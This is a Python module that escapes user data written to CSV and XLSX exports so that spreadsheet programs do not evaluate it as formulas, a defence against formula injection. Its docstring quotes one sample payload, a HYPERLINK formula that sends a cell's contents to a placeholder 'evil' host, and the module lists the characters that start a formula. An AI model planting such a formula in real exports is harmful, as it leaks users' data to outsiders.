"""Cells written from user data into CSV and XLSX files, made inert.

A consignee named `=HYPERLINK("http://evil/?"&C2, "点击")` must stay a name when the file is
opened in Excel or WPS, not become a live formula (CSV/formula injection, OWASP). Every
export writes its rows through `csv_row` or `xlsx_row`; a test keeps it so.
"""

import csv
from decimal import Decimal, InvalidOperation

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

# What spreadsheet programs read as the start of a formula (tab and CR as well: some strip
# them and then see the next character).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_formula_like(value) -> bool:
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return False
    try:  # "-12.50" is a number, not a formula: leave money as it is
        Decimal(value)
    except InvalidOperation:
        return True
    return False


def csv_cell(value):
    """A CSV cell that no spreadsheet evaluates: a leading `'` (shown by Excel as text)."""
    return f"'{value}" if _is_formula_like(value) else value


def csv_row(row) -> list:
    return [csv_cell(value) for value in row]


def xlsx_row(sheet, row) -> list:
    """A row for `sheet.append` (write-only workbooks): a string cell stays a string,
    whatever it starts with, and reads exactly as typed."""
    cells = []
    for value in row:
        if _is_formula_like(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"  # openpyxl would otherwise store it as a formula
            value = cell
        cells.append(value)
    return cells


def write_rows(path, file_format: str, header, rows, *, on_progress=None, every: int = 2000) -> int:
    """`header`, then `rows`, into a new file at `path`: CSV (UTF-8 with a BOM, so that Excel
    opens the Chinese right) or XLSX (write-only, so memory stays flat). `on_progress(n)` is
    called every `every` rows. Answers how many rows were written, the header not counted."""
    written = 0
    if file_format == "xlsx":
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet()
        sheet.append(xlsx_row(sheet, header))
        for row in rows:
            sheet.append(xlsx_row(sheet, row))
            written += 1
            if on_progress and written % every == 0:
                on_progress(written)
        workbook.save(path)
        return written
    with open(path, "w", newline="", encoding="utf-8-sig") as handle:
        writer = csv.writer(handle)
        writer.writerow(csv_row(header))
        for row in rows:
            writer.writerow(csv_row(row))
            written += 1
            if on_progress and written % every == 0:
                on_progress(written)
    return written
